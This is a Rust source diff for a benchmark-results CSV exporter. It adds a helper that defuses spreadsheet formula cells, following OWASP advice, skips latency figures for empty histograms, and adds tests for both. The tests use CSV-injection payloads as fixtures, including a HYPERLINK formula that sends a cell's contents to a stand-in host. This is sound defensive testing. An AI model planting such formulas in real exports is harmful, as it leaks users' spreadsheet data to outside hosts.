@@ -200,20 +200,22 @@ pub fn to_csv<W: Write>(runs: &[RunRecord], w: W) -> anyhow::Result<()> {
                     String::new(),
                 ),
             };
+            let labels = join_labels(labels);
             out.write_record([
-                run.id.as_str(),
-                label.as_str(),
-                host,
-                workload,
-                test,
-                step.as_str(),
-                rep.as_str(),
-                params.as_str(),
-                metric,
-                value.as_str(),
-                unit,
-                join_labels(labels).as_str(),
-                flags.as_str(),
+                inert(&run.id),
+                inert(&label),
+                inert(host),
+                inert(workload),
+                inert(test),
+                inert(&step),
+                inert(&rep),
+                inert(&params),
+                inert(metric),
+                // A number (possibly negative), written by `num`: never a formula.
+                value,
+                inert(unit),
+                inert(&labels),
+                inert(&flags),
             ])?;
             Ok(())
         };
@@ -274,6 +276,11 @@ pub fn to_csv<W: Write>(runs: &[RunRecord], w: W) -> anyhow::Result<()> {
                     ("latency_max_ns", s.max_ns as f64, "ns"),
                 ];
                 for (name, value, unit) in stats {
+                    // A histogram that recorded nothing (every request of an operation
+                    // failed) has a count of 0 and no latency: not latencies of 0.
+                    if s.count == 0 && name != "latency_count" {
+                        continue;
+                    }
                     if r.metrics.iter().any(|m| m.name == name && m.labels == l) {
                         continue;
                     }
@@ -435,6 +442,18 @@ fn join_params(params: &BTreeMap<String, serde_json::Value>) -> String {
         .join(";")
 }
 
+/// A text cell a spreadsheet will not run: one starting with `=`, `+`, `-`, `@`, a tab
+/// or a carriage return is read as a formula by Excel and LibreOffice (a label
+/// `=HYPERLINK(...)`, or an imported run's test name), so it gets a leading `'`, as
+/// OWASP's CSV-injection advice has it. The value column holds numbers and is left alone.
+fn inert(cell: &str) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell.to_string()
+    }
+}
+
 fn join_labels(labels: &BTreeMap<String, String>) -> String {
     labels
         .iter()
@@ -471,6 +490,7 @@ fn flags_cell(r: &ResultRecord) -> String {
 mod tests {
     use super::*;
     use crate::fixtures;
+    use model::{HistogramRecord, Metric};
 
     #[test]
     fn json_round_trips_exactly() {
@@ -609,5 +629,45 @@ mod tests {
         assert_eq!(&busy[2], "altra-01");
         let idle = rows.iter().find(|r| &r[8] == "idle_power_mean_w").unwrap();
         assert_eq!(&idle[5], "");
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_are_inert() {
+        let mut run = fixtures::rich_run(
+            "r1",
+            Some("=HYPERLINK(\"http://x/?\"&A1,\"ok\")"),
+            fixtures::t0(0),
+            1,
+        );
+        run.results[0].test = "@SUM(1+1)".into();
+        run.results[0]
+            .metrics
+            .push(Metric::new("delta", -2.5, "+x"));
+        let mut buf = Vec::new();
+        to_csv(&[run], &mut buf).unwrap();
+        let mut rd = csv::Reader::from_reader(buf.as_slice());
+        let rows: Vec<csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
+        assert!(rows.iter().all(|r| r[1].starts_with("'=HYPERLINK(")));
+        let delta = rows.iter().find(|r| &r[8] == "delta").unwrap();
+        assert_eq!(&delta[4], "'@SUM(1+1)");
+        assert_eq!(&delta[10], "'+x");
+        // A negative number stays a number.
+        assert_eq!(&delta[9], "-2.5");
+    }
+
+    #[test]
+    fn an_empty_histogram_has_a_count_and_no_latencies() {
+        let mut run = fixtures::rich_run("r1", None, fixtures::t0(0), 1);
+        run.results[0].metrics.clear();
+        let empty = model::hist::new_latency_histogram();
+        run.results[0].histograms = vec![HistogramRecord::from_histogram("get", "service", &empty)];
+        let mut buf = Vec::new();
+        to_csv(&[run], &mut buf).unwrap();
+        let mut rd = csv::Reader::from_reader(buf.as_slice());
+        let rows: Vec<csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
+        let of = |name: &str| rows.iter().filter(|r| &r[8] == name).count();
+        assert_eq!(of("latency_count"), 1);
+        assert_eq!(of("latency_p99_ns"), 0, "a p99 of 0 for no request");
+        assert_eq!(of("latency_mean_ns"), 0);
     }
 }
